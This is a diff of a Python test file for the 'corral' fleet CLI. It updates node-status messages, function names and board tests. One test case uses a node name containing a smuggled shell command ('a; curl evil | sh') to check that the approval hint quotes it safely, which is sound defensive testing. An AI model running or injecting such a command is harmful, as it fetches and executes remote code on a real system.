@@ -7,7 +7,7 @@ from datetime import UTC, datetime
 import pytest
 import typer
 
-from corral.cli import node_text
+from corral.cli.nodes import text as node_text
 from corral.client.events import Changed, FleetEvent, NodeRemoved, NodeSeen, Ready, Restarted
 from corral.contract.admin import NodeView
 from corral.contract.hardware import Device
@@ -24,11 +24,11 @@ def view(name: str, status: str = "healthy", **more: object) -> NodeView:
     [
         (view("a"), ""),
         (view("a", status_reason="approved by admin"), ""),
-        (view("a", "pending"), "waits for approval: corral nodes approve a"),
-        (view("a; curl evil | sh", "pending"), "waits for approval: corral nodes approve 'a; curl evil | sh'"),
+        (view("a", "pending"), "needs approval: corral nodes approve a"),
+        (view("a; curl evil | sh", "pending"), "needs approval: corral nodes approve 'a; curl evil | sh'"),
         (view("a", "offline", status_reason="silent for 70 s"), "silent for 70 s"),
         (view("a", ingress_error="nothing answers at http://a:50050"), "nothing answers at http://a:50050"),
-        (view("a", bus_down=True), "cannot reach the bus"),
+        (view("a", bus_down=True), "the worker cannot reach the bus"),
     ],
 )
 def test_the_note_is_the_one_thing_to_know(node: NodeView, words: str) -> None:
@@ -48,7 +48,7 @@ def test_details_explain_status_and_trouble_and_leave_out_what_is_empty() -> Non
     )
     text = "\n".join(node_text.details(node, NOON))
     assert "status           offline: silent for 70 s" in text
-    assert "ingress trouble  connection refused" in text
+    assert "ingress problem  connection refused" in text
     assert "labels           a=1, b=2" in text
     assert "device 0         nvidia RTX 3060 12.0 GiB" in text
     assert "VRAM budget" not in text
@@ -66,13 +66,13 @@ def test_a_status_is_said_once(reason: str) -> None:
     ("name", "known", "words"),
     [
         ("atic", ["attic", "cellar"], "did you mean attic?"),
-        ("zzz", ["attic", "cellar"], "there are attic, cellar"),
-        ("zzz", [], "there are none yet"),
+        ("zzz", ["attic", "cellar"], "the nodes are attic, cellar"),
+        ("zzz", [], "there are no nodes yet"),
         ("zzz", [f"n{i}" for i in range(9)], "and 4 more"),
     ],
 )
 def test_an_unknown_node_comes_with_what_was_probably_meant(name: str, known: list[str], words: str) -> None:
-    assert words in node_text.unknown(name, known)
+    assert words in node_text.unknown_node(name, known)
 
 
 def test_label_changes() -> None:
@@ -89,7 +89,7 @@ def test_what_is_no_label_change_is_refused(bad: list[str]) -> None:
 
 
 def test_the_board_tells_who_came_changed_and_went() -> None:
-    board = node_text.Board()
+    board = node_text.NodeBoard()
     events: list[FleetEvent] = [
         Restarted(),
         NodeSeen(view("a")),
@@ -104,14 +104,14 @@ def test_the_board_tells_who_came_changed_and_went() -> None:
     lines = [change.line() for event in events for change in board.changes(event)]
     assert lines == [
         "a: healthy",
-        "b: pending (waits for approval: corral nodes approve b)",
+        "b: pending (needs approval: corral nodes approve b)",
         "b: pending → healthy",
         "a: deleted",
     ]
 
 
 def test_who_is_not_told_again_after_a_broken_stream_is_gone() -> None:
-    board = node_text.Board()
+    board = node_text.NodeBoard()
     for event in (Restarted(), NodeSeen(view("a")), NodeSeen(view("b")), Ready()):
         board.changes(event)
     told = [change.line() for event in (Restarted(), NodeSeen(view("b")), Ready()) for change in board.changes(event)]
@@ -120,6 +120,6 @@ def test_who_is_not_told_again_after_a_broken_stream_is_gone() -> None:
 
 
 def test_the_screen_is_not_drawn_while_everything_is_being_told() -> None:
-    board = node_text.Board()
-    drawn = [board.take(event) for event in (Restarted(), NodeSeen(view("a")), Ready(), NodeSeen(view("a")))]
+    board = node_text.NodeBoard()
+    drawn = [board.apply(event) for event in (Restarted(), NodeSeen(view("a")), Ready(), NodeSeen(view("a")))]
     assert drawn == [False, False, True, True]
